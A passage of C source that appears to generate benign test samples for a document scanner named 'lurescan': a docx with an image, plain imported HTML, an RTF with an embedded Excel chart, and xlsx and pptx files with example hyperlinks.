		"<a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></pic:spPr>"
		"</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>",
		10 * EMU_PER_PIXEL, 10 * EMU_PER_PIXEL, 10 * EMU_PER_PIXEL, 10 * EMU_PER_PIXEL);
	pkg *p = docx_new("lurescan benign sample: image", body);
	GBytes *png = png_tiny();

	pkg_default(p, "png", CT_PNG);
	pkg_rel(p, "word/document.xml", "rId10", RT_IMAGE, "media/image1.png", false);
	pkg_part_bytes(p, "word/media/image1.png", png, NULL);
	g_bytes_unref(png);
	g_free(body);
	return pkg_finish(p);
}

/* An altChunk of plain HTML: text only, no script, no link, no reference
 * to anything outside. */
GBytes *make_altchunk_html(void)
{
	static const char html[] =
		"<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Notes</title></head>"
		"<body><h1>Meeting notes</h1><p>lurescan benign sample: plain imported HTML text,"
		" <b>bold</b> and <i>italic</i>, nothing else.</p></body></html>\r\n";
	GBytes *chunk = g_bytes_new_static(html, sizeof(html) - 1);
	GBytes *b = altchunk_docx("lurescan benign sample: altChunk of plain HTML",
				  "lurescan benign sample: the next part is imported HTML.",
				  "word/afchunk.htm", "afchunk.htm", chunk, CT_HTML, NULL);
	g_bytes_unref(chunk);
	return b;
}

/* BIFF8 records (MS-XLS 2.4.21 BOF, 2.4.103 EOF) of a minimal chart
 * workbook: the globals substream, empty. */
#define BIFF_BOF 0x0809u
#define BIFF_EOF 0x000Au
#define BIFF8_VERSION 0x0600u
#define BIFF_DT_GLOBALS 0x0005u
#define BIFF_BUILD 0x0DBBu
#define BIFF_YEAR 0x07CCu

static GBytes *chart_cfb(void)
{
	cfb *c = cfb_new(CLSID_EXCEL_CHART_8);
	GBytes *co = compobj_stream(CLSID_EXCEL_CHART_8, "Microsoft Excel Chart", "Biff8",
				    "Excel.Chart.8");
	GBytes *ole = olestream_embedded();
	GByteArray *wb = g_byte_array_new();

	put_le16(wb, BIFF_BOF);
	put_le16(wb, 16);
	put_le16(wb, BIFF8_VERSION);
	put_le16(wb, BIFF_DT_GLOBALS);
	put_le16(wb, BIFF_BUILD);
	put_le16(wb, BIFF_YEAR);
	put_le32(wb, 0); /* bfh flags */
	put_le32(wb, 0x0006u); /* sfo: lowest BIFF version */
	put_le16(wb, BIFF_EOF);
	put_le16(wb, 0);

	cfb_stream_bytes(c, "\001CompObj", co);
	cfb_stream_bytes(c, "\001Ole", ole);
	cfb_stream(c, "Workbook", wb->data, wb->len);
	g_bytes_unref(co);
	g_bytes_unref(ole);
	g_byte_array_free(wb, TRUE);
	return cfb_finish(c);
}

/* An RTF with a PNG picture and an embedded (not linked) Excel chart. */
GBytes *make_benign_rtf(void)
{
	GBytes *png = png_tiny();
	GBytes *chart = chart_cfb();
	char *png_hex = rtf_hex(png);
	char *obj = rtf_ole1_object("\\objemb", "Excel.Chart.8", chart, 0, "Chart");
	char *body = g_strdup_printf(
		"lurescan benign sample: a picture and an embedded chart.\\par\r\n"
		"{\\pict\\pngblip\\picw1\\pich1\\picwgoal150\\pichgoal150\r\n%s\r\n}\\par\r\n%s",
		png_hex, obj);
	char *doc = rtf_document("\\rtf1", "lurescan benign sample: picture and chart", body);

	g_bytes_unref(png);
	g_bytes_unref(chart);
	g_free(png_hex);
	g_free(obj);
	g_free(body);
	return bytes_of_string(doc);
}

GBytes *make_hyperlink_xlsx(void)
{
	pkg *p = xlsx_new("lurescan benign sample: hyperlink", "");

	pkg_part_str(p, "xl/worksheets/sheet1.xml", XML_DECL
		"<worksheet" X_NS "><dimension ref=\"A1\"/><sheetData>"
		"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>https://www.example/report</t></is>"
		"</c></row></sheetData>"
		"<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/></hyperlinks></worksheet>", NULL);
	pkg_rel(p, "xl/worksheets/sheet1.xml", "rId1", RT_HYPERLINK, "https://www.example/report",
		true);
	return pkg_finish(p);
}

GBytes *make_hyperlink_pptx(void)
{
	pkg *p = pptx_new("lurescan benign sample: hyperlink", "lurescan benign sample");

	pkg_part_str(p, "ppt/slides/slide1.xml", XML_DECL
		"<p:sld" P_NS "><p:cSld><p:spTree>" P_SPTREE_HEAD
		"<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Title 1\"/>"
		"<p:cNvSpPr><a:spLocks noGrp=\"1\"/></p:cNvSpPr>"
		"<p:nvPr><p:ph type=\"ctrTitle\"/></p:nvPr></p:nvSpPr><p:spPr/>"
		"<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang=\"en-US\">"
		"<a:hlinkClick r:id=\"rId10\"/></a:rPr>"
		"<a:t>www.example</a:t></a:r></a:p></p:txBody></p:sp>"
		"</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>", NULL);
	pkg_rel(p, "ppt/slides/slide1.xml", "rId10", RT_HYPERLINK, "https://www.example/slides",
		true);
	return pkg_finish(p);
}
